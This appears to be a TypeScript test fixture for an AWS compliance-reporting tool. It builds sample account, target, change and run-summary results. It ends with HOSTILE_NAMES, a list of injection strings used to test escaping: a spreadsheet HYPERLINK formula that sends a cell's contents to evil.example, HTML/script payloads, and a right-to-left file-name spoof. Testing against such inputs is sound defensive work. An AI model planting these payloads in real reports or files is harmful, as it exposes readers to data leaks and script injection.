/** Results by hand: a sound account and target, and what a test makes different. */
import { NO_INSTANCES } from '../../functions/core/instances/region-instances.ts';
import type { ChangeResult } from '../../functions/core/model/change.ts';
import type { AccountResult, RunSummary, TargetResult } from '../../functions/core/model/result.ts';
import { addAccount, NO_TOTALS } from '../../functions/core/run-totals.ts';
import type { ReportSource } from '../../functions/report/source.ts';

export const REGIONS = ['eu-west-1', 'us-east-1'];

export function target(overrides: Partial<TargetResult> = {}): TargetResult {
  return {
    accountId: '111122223333',
    region: 'eu-west-1',
    status: 'COMPLIANT',
    reasons: [],
    notes: [],
    findings: [],
    setting: { desired: 'a/b', observed: 'a/b' },
    vpcs: [],
    instances: NO_INSTANCES,
    changes: [],
    retry: false,
    ...overrides,
  };
}

export function account(overrides: Partial<AccountResult> = {}): AccountResult {
  const accountId = overrides.accountId ?? '111122223333';
  return {
    accountId,
    name: 'web',
    organizationPath: ['r-root', 'ou-1'],
    status: 'COMPLIANT',
    reasons: [],
    findings: [],
    role: {
      settingValue: 'service-role/Dhmc',
      arn: `arn:aws:iam::${accountId}:role/service-role/Dhmc`,
      owner: 'OURS',
      state: 'SOUND',
      reasons: [],
      findings: [],
    },
    changes: [],
    targets: REGIONS.map((region) => target({ accountId, region })),
    ...overrides,
  };
}

export function change(overrides: Partial<ChangeResult> = {}): ChangeResult {
  return {
    id: 'c-1',
    kind: 'SetServiceSetting',
    resource: 'setting',
    outcome: 'PLANNED',
    error: null,
    monthlyCostUsd: null,
    detail: {},
    ...overrides,
  };
}

export function summaryOf(
  accounts: AccountResult[],
  overrides: Partial<RunSummary['head']> = {},
): RunSummary {
  return {
    head: {
      schemaVersion: 1,
      runId: 'run-1',
      mode: 'assess',
      startedAt: '2026-11-20T00:00:00.000Z',
      endedAt: '2026-11-20T00:01:00.000Z',
      status: 'SUCCEEDED',
      reason: null,
      waivers: [],
      ...accounts.reduce(addAccount, NO_TOTALS),
      ...overrides,
    },
    status: 'SUCCEEDED',
    reason: null,
    input: { mode: 'assess', trigger: 'on-demand' },
    organizationId: 'o-own',
    configurationVersion: 'c0ffee',
    place: { partition: 'aws', operatorAccountId: '100000000002', homeRegion: 'us-east-1' },
    regions: [...new Set(accounts.flatMap(({ targets }) => targets.map(({ region }) => region)))].sort(),
  };
}

export function source(accounts: AccountResult[], overrides: Partial<ReportSource> = {}): ReportSource {
  const summary = summaryOf(accounts);
  return {
    summary,
    async *accounts() {
      yield* accounts;
    },
    configuration: null,
    trend: [summary],
    since: null,
    ...overrides,
  };
}

export async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  return (await Array.fromAsync(pieces)).join('');
}

/** Names that try to get out of their field. */
export const HOSTILE_NAMES = {
  formula: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  formulaAfterBreak: '\n=1+1',
  script: '</script><script>alert(1)</script><!-- <img src=x onerror=alert(1)>',
  rightToLeft: 'abc\u202egpj.exe\u2066 \u200frest',
  breaks: 'first\r\nsecond\tthird\u2028fourth\u0000',
  long: 'W'.repeat(200),
  quotes: `"><svg onload=alert(1)> ' & "`,
};
